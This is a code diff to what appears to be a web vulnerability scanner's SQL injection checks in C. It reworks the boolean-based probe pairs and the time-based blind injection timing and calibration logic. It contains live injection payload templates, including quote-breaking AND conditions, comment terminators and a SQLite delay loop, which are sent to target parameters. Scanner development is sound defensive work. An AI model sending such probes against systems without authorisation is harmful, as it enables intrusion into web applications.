@@ -127,19 +127,19 @@ static bool sqli_error(web_ctx *x, const web_target *t, size_t i, const sqli_bas
 
 /* ---- boolean-based ---- */
 
-/* A context's condition pair: %d is the number compared (true: n = n, false: n = n + 1). */
+/* A context's condition: %d=%d compares a number with itself (true) or with the next (false). */
 typedef struct sqli_form {
-    const char *fmt_true, *fmt_false;
-    bool numeric;                    /* only when the value seen is a number */
+    const char *fmt;
+    bool numeric;                    /* a bare number's context */
 } sqli_form;
 
 static const sqli_form sqli_forms[] = {
-    {" AND %d=%d", " AND %d=%d", true},
-    {" AND %d=%d-- -", " AND %d=%d-- -", true},
-    {"' AND '%d'='%d", "' AND '%d'='%d", false},
-    {"' AND %d=%d-- -", "' AND %d=%d-- -", false},
-    {"\" AND \"%d\"=\"%d", "\" AND \"%d\"=\"%d", false},
-    {"') AND %d=%d-- -", "') AND %d=%d-- -", false},
+    {" AND %d=%d", true},
+    {" AND %d=%d-- -", true},
+    {"' AND '%d'='%d", false},
+    {"' AND %d=%d-- -", false},
+    {"\" AND \"%d\"=\"%d", false},
+    {"') AND %d=%d-- -", false},
 };
 
 static bool sqli_numeric(const char *v)
@@ -187,24 +187,27 @@ static void sqli_pair_free(sqli_pair_run *pr)
 }
 
 /* Sends form fm's pair for number n; true when it holds (pr keeps the answers either way). */
+/* Sends form fm's pair for number n, the false condition first (most pages do not change with
+ * it, and then one request is enough); true when the pair holds (pr keeps the answers). */
 static bool sqli_pair_try(web_ctx *x, const web_target *t, size_t i, const sqli_base *bs, const sqli_form *fm, int n,
                           sqli_pair_run *pr)
 {
     memset(pr, 0, sizeof *pr);
-    snprintf(pr->ptrue, sizeof pr->ptrue, fm->fmt_true, n, n);
-    snprintf(pr->pfalse, sizeof pr->pfalse, fm->fmt_false, n, n + 1);
+    snprintf(pr->ptrue, sizeof pr->ptrue, fm->fmt, n, n);
+    snprintf(pr->pfalse, sizeof pr->pfalse, fm->fmt, n, n + 1);
     const char *both[2] = {pr->ptrue, pr->pfalse};
     const sqli_ans *b0 = &bs->a[0];
     pr->seen = bs->seen;
     pr->m.noise = bs->noise;
-    if (!sqli_send(x, t, i, bs->seen, pr->ptrue, 0, &pr->t) || pr->t.r.status != b0->r.status)
-        return false;
-    pr->m.true_base = sqli_diff(&pr->t, b0, both, 2);
-    if (pr->m.true_base > bs->noise + bs->noise / 2 || !sqli_send(x, t, i, bs->seen, pr->pfalse, 0, &pr->f))
+    if (!sqli_send(x, t, i, bs->seen, pr->pfalse, 0, &pr->f))
         return false;
     pr->m.false_base = sqli_diff(&pr->f, b0, both, 2);
-    pr->m.true_false = sqli_diff(&pr->t, &pr->f, both, 2);
     pr->m.false_status = pr->f.r.status != b0->r.status;
+    if ((!pr->m.false_status && pr->m.false_base <= 2 * bs->noise) ||
+        !sqli_send(x, t, i, bs->seen, pr->ptrue, 0, &pr->t) || pr->t.r.status != b0->r.status)
+        return false;
+    pr->m.true_base = sqli_diff(&pr->t, b0, both, 2);
+    pr->m.true_false = sqli_diff(&pr->t, &pr->f, both, 2);
     return web_sqli_pair_holds(&pr->m);
 }
 
@@ -279,7 +282,7 @@ static const sqli_delay sqli_delays[] = {
     {"SQLite", "'||" SQLI_SQLITE_LOOP "||'", false, true},
 };
 
-#define SQLI_CAL_LOOP 1000000        /* iterations of the measuring run */
+#define SQLI_CAL_LOOP 2000000        /* iterations of the measuring run */
 #define SQLI_CAL_MIN_US 100000       /* it must take at least this much longer than the page */
 #define SQLI_LOOP_MAX 400000000LL    /* a loop longer than this is not sent */
 
@@ -310,10 +313,11 @@ static int64_t sqli_delay_send(sqli_delay_run *dr, long long amount, int64_t tim
     return e;
 }
 
-/* What the form is sent with for a delay of d seconds: d, or the iterations that take d. */
+/* What the form is sent with for a delay of d seconds: d, or the iterations that take d (and a
+ * third more: the measuring run's own overhead makes the speed look lower than it is). */
 static long long sqli_amount(const sqli_delay_run *dr, int d)
 {
-    return dr->dl->counted ? (long long)(dr->per_s * d) : d;
+    return dr->dl->counted ? (long long)(dr->per_s * d * 4 / 3) : d;
 }
 
 /* A counted form's speed: one measuring run that must stand out of the page's own timing. */
@@ -341,21 +345,36 @@ static kw_rc sqli_report_time(const sqli_delay_run *dr)
                        "SQL 注入（时间盲注）", &dr->proof, (size_t)-1, detail);
 }
 
-/* Delay form dl: d1 first (most pages stop there), then d2 and zero. */
+/* One round of delays d1, d2 and zero (d1 first: most pages stop there); true when the
+ * timings hold. */
+static bool sqli_delay_round(sqli_delay_run *dr)
+{
+    int64_t base = dr->bs->slow_us, slack_ms = 15000;
+    sqli_ans_free(&dr->proof);
+    dr->e[1] = dr->e[2] = -1;
+    dr->e[0] = sqli_delay_send(dr, sqli_amount(dr, SQLI_DELAY1), SQLI_DELAY1 * 3000 + slack_ms, NULL);
+    if (dr->e[0] < base + (int64_t)SQLI_DELAY1 * 900000 || web_stopping(dr->x))
+        return false;
+    dr->e[1] = sqli_delay_send(dr, sqli_amount(dr, SQLI_DELAY2), SQLI_DELAY2 * 3000 + slack_ms, &dr->proof);
+    dr->e[2] = dr->e[1] >= 0 ? sqli_delay_send(dr, 0, slack_ms, NULL) : -1;
+    return dr->e[2] >= 0 && web_sqli_time_holds(base, (int64_t)SQLI_DELAY1 * 1000000, dr->e[0],
+                                                (int64_t)SQLI_DELAY2 * 1000000, dr->e[1], dr->e[2]);
+}
+
 static bool sqli_delay_try(web_ctx *x, const web_target *t, size_t i, const sqli_base *bs, const sqli_delay *dl,
                            kw_rc *rc)
 {
     sqli_delay_run dr = {.x = x, .t = t, .i = i, .bs = bs, .dl = dl, .e = {-1, -1, -1}};
-    int64_t base = bs->slow_us, slack_ms = 15000;
     if (!sqli_calibrate(&dr))
         return false;
-    dr.e[0] = sqli_delay_send(&dr, sqli_amount(&dr, SQLI_DELAY1), SQLI_DELAY1 * 3000 + slack_ms, NULL);
-    if (dr.e[0] >= base + (int64_t)SQLI_DELAY1 * 900000 && !web_stopping(x)) {
-        dr.e[1] = sqli_delay_send(&dr, sqli_amount(&dr, SQLI_DELAY2), SQLI_DELAY2 * 3000 + slack_ms, &dr.proof);
-        dr.e[2] = dr.e[1] >= 0 ? sqli_delay_send(&dr, 0, slack_ms, NULL) : -1;
+    bool held = sqli_delay_round(&dr);
+    /* a counted form whose first delay stood out gets one more round, its speed taken from that
+     * longer run: on a busy server the short measuring run is a poor guide */
+    int64_t extra = dr.e[0] - bs->slow_us;
+    if (!held && dl->counted && extra >= (int64_t)SQLI_DELAY1 * 900000 && !web_stopping(x)) {
+        dr.per_s = (double)sqli_amount(&dr, SQLI_DELAY1) * 1e6 / (double)extra;
+        held = sqli_amount(&dr, SQLI_DELAY2) <= SQLI_LOOP_MAX && sqli_delay_round(&dr);
     }
-    bool held = dr.e[2] >= 0 && web_sqli_time_holds(base, (int64_t)SQLI_DELAY1 * 1000000, dr.e[0],
-                                                    (int64_t)SQLI_DELAY2 * 1000000, dr.e[1], dr.e[2]);
     if (held)
         *rc = sqli_report_time(&dr);
     sqli_ans_free(&dr.proof);
